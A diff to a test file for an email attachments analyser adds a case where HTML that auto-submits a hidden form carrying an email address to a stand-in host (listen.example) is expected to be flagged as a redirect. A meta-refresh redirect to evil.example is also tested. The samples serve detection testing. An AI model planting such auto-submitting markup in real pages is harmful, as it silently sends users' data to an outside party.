@@ -90,6 +90,13 @@ describe('the attachments analyser', () => {
     expect(await codes([page('<meta http-equiv="refresh" content="0;url=https://evil.example/">')])).toEqual([
       'html-redirect',
     ]);
+    expect(
+      await codes([
+        page(
+          '<body onload="document.forms[0].submit()"><form action="https://listen.example/v/"><input type="hidden" name="u" value="ann@corp.example"></form></body>',
+        ),
+      ]),
+    ).toEqual(['html-redirect']);
     expect(await codes([page('<p>Invoice 7: 120 EUR, due in 30 days.</p>')])).toEqual([]);
   });
 
